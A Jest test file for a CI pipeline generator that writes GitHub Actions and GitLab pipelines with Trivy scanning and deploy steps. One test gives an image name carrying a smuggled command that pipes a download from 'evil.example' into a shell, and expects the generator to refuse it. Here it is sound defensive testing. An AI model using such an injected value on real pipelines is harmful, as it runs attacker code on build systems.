import { spawnSync } from 'child_process';
import { readFileSync } from 'fs';
import { join } from 'path';
import Ajv from 'ajv';
import { parse } from 'yaml';
import { GITHUB_ACTIONS, PipelineOptions, pipelineCommands, renderPipeline, trivyReport } from '../../src/ci/pipeline';
import { CliIo, runCli } from '../../src/cli/program';

const ROOT = join(__dirname, '..', '..');
const IMAGES = ['ghcr.io/acme/api:1.4.2', 'ghcr.io/acme/web@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef'];

/** Every combination the tests write: each system, each deploy mode, with and without the optional options. */
const VARIANTS: PipelineOptions[] = (['github', 'gitlab'] as const).flatMap((system) => [
  { system, images: IMAGES },
  { system, images: IMAGES.slice(0, 1), app: 'src/main.ts', outDir: 'manifests', profile: 'pss-restricted', scanSeverity: 'CRITICAL', ignoreUnfixed: true },
  { system, images: IMAGES, deploy: 'argocd', argocdApp: 'shop' },
  { system, images: IMAGES, deploy: 'none', branch: 'release', nodeVersion: '22' },
]);

/** GitHub's own parser (test/ci/parse-workflow.mjs): errors per file and the job ids it read. */
function parseWorkflows(files: Array<{ name: string; content: string }>): Array<{ name: string; errors: string[]; jobs: string[] }> {
  const r = spawnSync(process.execPath, [join(__dirname, 'parse-workflow.mjs')], { input: JSON.stringify({ files }), encoding: 'utf8', cwd: ROOT });
  if (r.status !== 0) {
    throw new Error(`parse-workflow.mjs failed: ${r.stderr}`);
  }
  return JSON.parse(r.stdout);
}

/** GitLab's published CI schema (gitlab-org/gitlab app/assets/javascripts/editor/schema/ci.json, vendored). */
function gitlabValidator() {
  const schema = JSON.parse(readFileSync(join(ROOT, 'test', 'fixtures', 'ci', 'gitlab-ci.schema.json'), 'utf8'));
  // The schema's patterns are not unicode-mode regular expressions (GitLab validates with a non-unicode engine), and
  // its formats (uri, date-time) are annotations here: no string of ours is one.
  return new Ajv({ strict: false, allErrors: true, unicodeRegExp: false, validateFormats: false }).compile(schema);
}

/** Runs a command line through the real CLI parser without running the command. */
async function parses(argv: readonly string[]): Promise<{ code: number; stderr: string }> {
  let stderr = '';
  const io: CliIo = { stdout: () => undefined, stderr: (s) => { stderr += s; }, readStdin: () => '', stdoutIsTTY: false, env: {}, parseOnly: true };
  return { code: await runCli(argv, io), stderr };
}

/** The `cdk8s-hardened` command lines in a pipeline file, the regenerate line of its header included. */
function commandLines(text: string): string[][] {
  return [...text.matchAll(/npx cdk8s-hardened ([^\n]*)/g)].map((m) => m[1].trim().split(/\s+/));
}

describe('ci pipelines', () => {
  test('GitHub workflows pass GitHub\'s own workflow parser; a broken one does not (the parser is really run)', () => {
    const files = VARIANTS.filter((v) => v.system === 'github').map((v, i) => ({ name: `variant-${i}.yml`, content: renderPipeline(v) }));
    const broken = files[0].content.replace('runs-on: ubuntu-latest', 'runs-on: ubuntu-latest\n    permisions: {}').replace("security-events: write", "security-events: writ");
    const results = parseWorkflows([...files, { name: 'broken.yml', content: broken }]);
    expect(results.slice(0, -1).map((r) => r.errors)).toEqual(files.map(() => []));
    expect(results.map((r) => r.jobs)).toEqual([['check', 'deploy'], ['check', 'deploy'], ['check', 'deploy'], ['check'], []]);
    expect(results[results.length - 1].errors.join('\n')).toMatch(/Unexpected value 'permisions'[\s\S]*Unexpected value 'writ'/);
  });

  test('GitLab pipelines pass GitLab\'s published CI JSON schema; a broken one does not', () => {
    const validate = gitlabValidator();
    for (const v of VARIANTS.filter((x) => x.system === 'gitlab')) {
      const doc = parse(renderPipeline(v));
      expect([v, validate(doc) ? [] : validate.errors]).toEqual([v, []]);
    }
    const doc = parse(renderPipeline(VARIANTS[4]));
    doc.check.artifacts.reports.junitt = doc.check.artifacts.reports.junit;
    doc.deploy.enviroment = 'production';
    expect(validate(doc)).toBe(false);
  });

  test('every cdk8s-hardened command line a pipeline runs is accepted by the CLI\'s own parser', async () => {
    let checked = 0;
    for (const v of VARIANTS) {
      const lines = commandLines(renderPipeline(v));
      expect(lines.map((l) => l[0])).toEqual(['ci', 'synth', 'check', ...(v.system === 'github' && (v.deploy ?? 'kubectl') === 'kubectl' ? ['synth'] : [])]);
      for (const line of lines) {
        expect([line.join(' '), await parses(line)]).toEqual([line.join(' '), { code: 0, stderr: '' }]);
        checked++;
      }
    }
    expect(checked).toBeGreaterThanOrEqual(12);
    // The parse is real: a line the CLI does not accept fails it.
    expect((await parses(['check', 'dist', '--format', 'xml'])).code).toBe(2);
    expect((await parses(['check', 'dist', '--sarif-out', 'x'])).code).toBe(2);
  });

  test('the GitHub workflow: pinned actions, SARIF uploaded to code scanning with the permissions it needs, the scan gate, deploy', () => {
    const text = renderPipeline({ system: 'github', images: IMAGES });
    const wf = parse(text);
    for (const action of Object.values(GITHUB_ACTIONS)) {
      expect(action.uses).toMatch(/@[0-9a-f]{40}$/);
      expect(text).toContain(`uses: ${action.uses} # ${action.version}\n`);
    }
    expect(wf.permissions).toEqual({ contents: 'read' });
    expect(wf.jobs.check.permissions).toEqual({ contents: 'read', 'security-events': 'write', actions: 'read' });
    const steps = wf.jobs.check.steps as Array<Record<string, any>>;
    expect(steps.map((s) => s.name ?? s.uses.replace(/@.*/, ''))).toEqual(
      ['actions/checkout', 'actions/setup-node', 'Install', 'Synth', 'Scan images (Trivy)', 'Check', 'Upload SARIF to code scanning']);
    const upload = steps[6];
    expect(upload).toMatchObject({ if: 'success() || failure()', with: { sarif_file: 'cdk8s-hardened.sarif' } });
    expect(upload.uses).toMatch(/^github\/codeql-action\/upload-sarif@/);
    expect(steps[4].run).toContain(`aquasec/trivy:0.58.1 image --format json --output /reports/image-2.json ${IMAGES[1]}`);
    expect(steps[5].run).toBe(`npx cdk8s-hardened ${pipelineCommands({ system: 'github', images: IMAGES }).check.join(' ')}`);
    expect(steps[5].run).toContain(`--format sarif --output cdk8s-hardened.sarif --scan ${trivyReport(0)} --scan ${trivyReport(1)} --scan-severity HIGH`);
    expect(wf.jobs.deploy.needs).toBe('check');
    expect(wf.jobs.deploy.if).toBe("github.event_name == 'push' && github.ref == 'refs/heads/main'");
    expect(wf.jobs.deploy.steps[wf.jobs.deploy.steps.length - 1].run).toContain('kubectl apply -k dist');
    const argo = parse(renderPipeline({ system: 'github', images: IMAGES, deploy: 'argocd', argocdApp: 'shop' }));
    expect(argo.jobs.check.steps.map((s: any) => s.name)).toContain('Committed tree is current');
    expect(argo.jobs.deploy.steps[0].run).toContain('argocd app sync shop --revision "$GITHUB_SHA"');
  });

  test('the GitLab pipeline: the guide\'s stages, Trivy feeding check --scan, the JUnit report GitLab shows, deploy on the default branch', () => {
    const doc = parse(renderPipeline({ system: 'gitlab', images: IMAGES, ignoreUnfixed: true }));
    expect(doc.stages).toEqual(['build', 'security_scan', 'test', 'deploy']);
    expect(doc.security_scan.script).toEqual(['mkdir -p .cdk8s-hardened/trivy', ...IMAGES.map((image, i) => `trivy image --format json --output ${trivyReport(i)} ${image}`)]);
    expect(doc.security_scan.image).toEqual({ name: 'aquasec/trivy:0.58.1', entrypoint: [''] });
    expect(doc.check.needs).toEqual(['synth', 'security_scan']);
    expect(doc.check.script[1]).toContain('--format junit --output cdk8s-hardened.junit.xml --scan .cdk8s-hardened/trivy/image-1.json --scan .cdk8s-hardened/trivy/image-2.json --scan-severity HIGH --ignore-unfixed');
    expect(doc.check.artifacts).toMatchObject({ when: 'always', reports: { junit: 'cdk8s-hardened.junit.xml' } });
    expect(doc.deploy).toMatchObject({ script: ['kubectl apply -k dist'], rules: [{ if: '$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH' }], environment: { name: 'production' } });
    const argo = parse(renderPipeline({ system: 'gitlab', images: IMAGES, deploy: 'argocd', argocdApp: 'shop' }));
    expect(argo.deploy.script[0]).toBe('argocd app sync shop --revision $CI_COMMIT_SHA --grpc-web');
    expect(argo.synth.script[2]).toMatch(/^git diff --exit-code -- dist/);
    expect(parse(renderPipeline({ system: 'gitlab', images: IMAGES, deploy: 'none' })).deploy).toBeUndefined();
  });

  test('output is deterministic and option values that would need shell quoting are refused', () => {
    for (const v of VARIANTS) {
      expect(renderPipeline(v)).toBe(renderPipeline({ ...v }));
    }
    expect(() => renderPipeline({ system: 'github', images: ['nginx:1.25; curl evil.example | sh'] })).toThrow(/--image "nginx:1.25; curl evil.example \| sh": only letters/);
    expect(() => renderPipeline({ system: 'github', images: [] })).toThrow(/--image: give every image/);
    expect(() => renderPipeline({ system: 'gitlab', images: IMAGES, deploy: 'argocd' })).toThrow(/--deploy argocd needs --argocd-app/);
    expect(() => renderPipeline({ system: 'gitlab', images: IMAGES, argocdApp: 'x' })).toThrow(/--argocd-app is only used with --deploy argocd/);
    expect(() => renderPipeline({ system: 'gitlab', images: ['a:1', 'a:1'] })).toThrow(/given twice/);
    // What check would refuse in CI is refused when the pipeline is written.
    expect(() => renderPipeline({ system: 'github', images: IMAGES, scanSeverity: 'BOGUS' })).toThrow(/--scan-severity: unknown severity "BOGUS"/);
    expect(() => renderPipeline({ system: 'github', images: IMAGES, profile: 'hardend' })).toThrow(/--profile: unknown profile "hardend"/);
    expect(renderPipeline({ system: 'github', images: IMAGES, scanSeverity: 'MEDIUM,CRITICAL' })).toContain('--scan-severity MEDIUM,CRITICAL');
    // The header's regenerate command writes the same file again.
    expect(renderPipeline({ system: 'gitlab', images: IMAGES, out: 'ci/pipeline.yml' }).split('\n')[2]).toMatch(/ --out ci\/pipeline\.yml --force$/);
  });
});
